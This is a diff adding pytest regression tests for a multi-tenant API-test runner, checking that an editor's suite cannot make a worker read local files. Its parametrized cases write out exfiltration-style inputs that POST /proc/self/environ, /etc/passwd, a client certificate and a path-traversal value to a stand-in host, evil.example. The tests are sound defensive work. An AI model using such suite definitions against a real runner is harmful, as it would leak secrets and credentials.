@@ -1,0 +1,87 @@
+"""Ways in that a review found, each closed: what is asked here was answered wrongly once."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from orbit_runner.worker import RunState
+from support.tenants import Tenants
+
+from orbit_context.errors import DefinitionError
+
+if TYPE_CHECKING:
+    from uuid import UUID
+
+    import asyncpg
+
+SEALED = "orbit.seal.v1.AAAAAAAA." + "A" * 40
+
+
+@pytest.fixture
+async def acme(connection: asyncpg.Connection[Any]) -> Tenants:
+    """acme: olga owns it, adam is admin, ed editor, vera viewer; una runs the unit payments. evil is of eve."""
+    tenants = await Tenants.on(connection)
+    await tenants.organization("acme", owner="olga", admin="adam", editor="ed", viewer="vera")
+    await tenants.unit("acme", "payments", admin="una")
+    await tenants.project("acme", "checkout", unit="payments")
+    await tenants.project("acme", "website")
+    await tenants.organization("evil", owner="eve")
+    return tenants
+
+
+def suite(**test: Any) -> dict[str, Any]:
+    document = {"suite": "s", "tests": [{"key": "a", "request": {"url": "http://evil.example/"}, **test}]}
+    return {"project": "website", "key": "s", "name": "s", "document": document, "dependencies": []}
+
+
+async def load(tenants: Tenants, run_id: UUID | str) -> dict[str, Any]:
+    number = await tenants.connection.fetchval(
+        "select queue_no from orbit.test_runs where id = $1::text::uuid", str(run_id)
+    )
+    loaded: dict[str, Any] = json.loads(
+        await tenants.connection.fetchval("select orbit_runner.load_run($1)::text", number)
+    )
+    return loaded
+
+
+@pytest.mark.parametrize(
+    "test",
+    [
+        {"request": {"method": "POST", "url": "http://evil.example/", "file": "/proc/self/environ"}},
+        {"request": {"method": "POST", "url": "http://evil.example/", "multipart": {"x": {"file": "/etc/passwd"}}}},
+        {"request": {"method": "POST", "url": "http://evil.example/", "multipart": {"x": ["y", {"file": "../x"}]}}},
+        {"request": {"url": "http://evil.example/", "file": "{{ name }}"}},
+        {"request": {"url": "http://evil.example/", "tls": {"cert": "/home/orbit/client.pem"}}},
+        {"data": {"file": "/home/orbit/people.csv"}},
+        {"expect": [{"not": {"schema": "secrets.json"}}]},
+    ],
+    ids=["body", "part", "one of several parts", "template", "certificate", "rows", "schema"],
+)
+async def test_no_editor_has_a_worker_read_its_files(acme: Tenants, test: dict[str, Any]) -> None:
+    await acme.call_as("ed", "save_suite", suite(**test))
+    run = await acme.call_as("ed", "start_run", {"project": "website", "suite": "s", "base_dir": "/"})
+    loaded = await load(acme, run["id"])
+    assert loaded["base_dir"] is None
+    with pytest.raises(DefinitionError, match="is not at hand"):
+        RunState.from_database(loaded, None)
+
+
+async def test_whoever_runs_the_database_may_name_the_folder(acme: Tenants) -> None:
+    await acme.call("save_suite", {"organization": "acme", **suite()})
+    run = await acme.call(
+        "start_run", {"organization": "acme", "project": "website", "suite": "s", "base_dir": "/srv/suites"}
+    )
+    assert (await load(acme, run["id"]))["base_dir"] == "/srv/suites"
+    run = await acme.call("start_run", {"organization": "acme", "project": "website", "suite": "s"})
+    assert RunState.from_database(await load(acme, run["id"]), None).tests
+
+
+@pytest.mark.parametrize("field", ["variables", "templates", "secrets"])
+async def test_a_run_takes_nothing_in_place_of_an_object_and_null_for_none(acme: Tenants, field: str) -> None:
+    await acme.call_as("ed", "save_suite", suite())
+    for value in ([], "x", 1, True, [{"a": 1}]):
+        assert await acme.refused("ed", "start_run", {"project": "website", "suite": "s", field: value}) == "OR001"
+    run = await acme.call_as("ed", "start_run", {"project": "website", "suite": "s", field: None, "defaults": None})
+    assert RunState.from_database(await load(acme, run["id"]), None).tests
